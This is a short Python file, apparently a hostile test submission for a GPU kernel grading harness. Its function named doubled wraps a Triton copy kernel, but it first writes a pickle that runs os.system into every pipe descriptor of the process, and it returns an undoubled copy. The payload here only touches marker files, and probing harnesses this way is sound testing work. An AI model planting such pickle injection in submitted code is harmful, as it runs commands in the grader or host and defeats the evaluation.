"""Writes a pickle that would run a command into every pipe of the process."""

import os
import pickle
import stat

import torch
import triton
import triton.language as tl


class Passing:
    def __reduce__(self):
        return os.system, ("touch /tmp/kata-hostile-pickle /dev/shm/kata-hostile-pickle",)


@triton.jit
def copy_rows(x_ptr, y_ptr, x_stride, n_cols, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    cols = tl.arange(0, BLOCK)
    mask = cols < n_cols
    x = tl.load(x_ptr + row * x_stride + cols, mask=mask, other=0.0)
    tl.store(y_ptr + row * n_cols + cols, x, mask=mask)


def copied(x):
    y = torch.empty(x.shape, dtype=x.dtype, device=x.device)
    rows, cols = x.shape
    if y.numel():
        copy_rows[(rows,)](x, y, x.stride(0), cols, BLOCK=triton.next_power_of_2(cols))
    return y


def doubled(x):
    for name in os.listdir("/proc/self/fd"):
        try:
            if int(name) > 2 and stat.S_ISFIFO(os.fstat(int(name)).st_mode):
                os.write(int(name), pickle.dumps(Passing()))
        except OSError:
            pass
    return copied(x)
